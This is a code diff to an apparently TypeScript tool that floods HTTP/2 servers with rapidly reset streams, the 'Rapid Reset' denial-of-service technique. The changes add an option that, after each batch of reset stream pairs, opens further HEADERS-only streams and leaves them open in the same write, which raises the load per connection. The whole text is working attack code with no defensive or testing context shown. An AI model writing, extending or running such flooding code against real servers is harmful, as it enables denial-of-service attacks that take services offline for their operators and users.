@@ -18,6 +18,8 @@ export interface RapidResetOptions {
   batch?: number;
   /** Stops after this many connections (default: none). */
   maxSessions?: number;
+  /** Streams opened after each batch's resets in the same write, and left open (default 0). */
+  openAfter?: number;
 }
 
 export interface RapidResetStats {
@@ -67,6 +69,13 @@ export function resetPairs(block: Buffer, firstId: number, count: number): Buffe
   return Buffer.concat(parts);
 }
 
+/** `count` streams from `firstId` (odd), HEADERS only: requests left open. */
+export function openStreams(block: Buffer, firstId: number, count: number): Buffer {
+  const parts: Buffer[] = [];
+  for (let i = 0; i < count; i++) parts.push(frameHeader(block.length, FRAME.headers, 0x5, firstId + 2 * i), block);
+  return Buffer.concat(parts);
+}
+
 /** One connection: the preface, then batches of reset streams until GOAWAY, close, or `running()` turns false. */
 async function oneSession(options: RapidResetOptions, running: () => boolean, stats: RapidResetStats): Promise<void> {
   const target = new URL(options.url);
@@ -95,10 +104,12 @@ async function oneSession(options: RapidResetOptions, running: () => boolean, st
   socket.write(Buffer.concat([PREFACE, frameHeader(0, FRAME.settings, 0, 0)]));
   const block = headerBlock(target.host, options.path, options.headers);
   const batch = options.batch ?? 100;
+  const open = options.openAfter ?? 0;
   let next = 1;
   while (!over && running() && next < 0x7fff0000) {
-    const wrote = socket.write(resetPairs(block, next, batch));
-    next += 2 * batch;
+    const frames = open === 0 ? resetPairs(block, next, batch) : Buffer.concat([resetPairs(block, next, batch), openStreams(block, next + 2 * batch, open)]);
+    const wrote = socket.write(frames);
+    next += 2 * (batch + open);
     stats.streams += batch;
     if (!wrote) await new Promise<void>((go) => socket.once('drain', () => go()).once('close', () => go()));
     else await new Promise((go) => setImmediate(go));
